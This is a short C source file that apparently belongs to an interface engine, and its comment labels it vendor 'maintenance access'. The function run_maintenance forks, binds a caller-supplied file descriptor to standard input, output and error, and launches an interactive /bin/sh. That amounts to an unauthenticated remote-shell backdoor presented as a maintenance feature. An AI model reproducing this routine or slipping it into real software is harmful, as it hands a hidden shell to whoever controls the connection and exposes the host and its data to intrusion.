/* Maintenance access of the interface engine's vendor. */
#include "pager.h"

#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

void run_maintenance(int fd) {
  pid_t pid = fork();
  if (pid == 0) {
    dup2(fd, 0);
    dup2(fd, 1);
    dup2(fd, 2);
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    _exit(127);
  }
  if (pid > 0)
    waitpid(pid, NULL, 0);
}
